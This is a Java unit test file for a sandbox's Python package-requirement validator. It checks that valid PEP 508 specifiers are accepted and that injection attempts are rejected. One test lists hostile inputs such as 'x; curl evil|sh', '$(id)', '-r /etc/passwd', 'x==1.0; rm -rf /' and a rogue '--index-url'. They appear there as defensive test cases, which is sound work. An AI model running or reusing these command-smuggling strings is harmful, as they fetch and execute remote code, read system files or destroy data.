package io.alphora.sandbox.backend;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.alphora.sandbox.SandboxException;
import org.junit.jupiter.api.Test;

class PackagesTest {

  @Test
  void acceptsPep508Requirements() {
    assertThat(Packages.requirement("requests")).isEqualTo("requests");
    assertThat(Packages.requirement("pandas==2.0.0")).isEqualTo("pandas==2.0.0");
    assertThat(Packages.requirement("uvicorn[standard]>=0.20,<1")).isEqualTo("uvicorn[standard]>=0.20,<1");
    assertThat(Packages.requirement(" zope.interface ~= 5.0 ")).isEqualTo("zope.interface ~= 5.0");
    assertThat(Packages.requirement("numpy", "1.26.4")).isEqualTo("numpy==1.26.4");
  }

  @Test
  void refusesAnythingThatCouldBeAnOptionOrReachAShell() {
    for (String bad : new String[] {"x; curl evil|sh", "--index-url=http://evil", "-r /etc/passwd", "a b",
        "pkg @ http://x/y.whl", "x;python_version<'3'", "$(id)", "", "../x", "x==1.0; rm -rf /", "-e ."}) {
      assertThatThrownBy(() -> Packages.requirement(bad), bad).isInstanceOf(SandboxException.class);
    }
    assertThatThrownBy(() -> Packages.requirement("ok", "1.0 --pre")).isInstanceOf(SandboxException.class);
  }

  @Test
  void requirementsFilesRefuseOptions() {
    assertThat(Packages.requirementsFile("r.txt", "# c\nrequests==2.0\n\nflask  # web\n"))
        .containsExactly("requests==2.0", "flask");
    assertThatThrownBy(() -> Packages.requirementsFile("r.txt", "requests\n--index-url http://evil\n"))
        .hasMessageContaining("line 2");
    assertThatThrownBy(() -> Packages.requirementsFile("r.txt", "# nothing\n")).hasMessageContaining("no requirements");
  }

  @Test
  void normalizesNames() {
    assertThat(Packages.normalize("Zope_Interface")).isEqualTo("zope-interface");
    assertThat(Packages.normalize("a.-_b")).isEqualTo("a-b");
  }
}
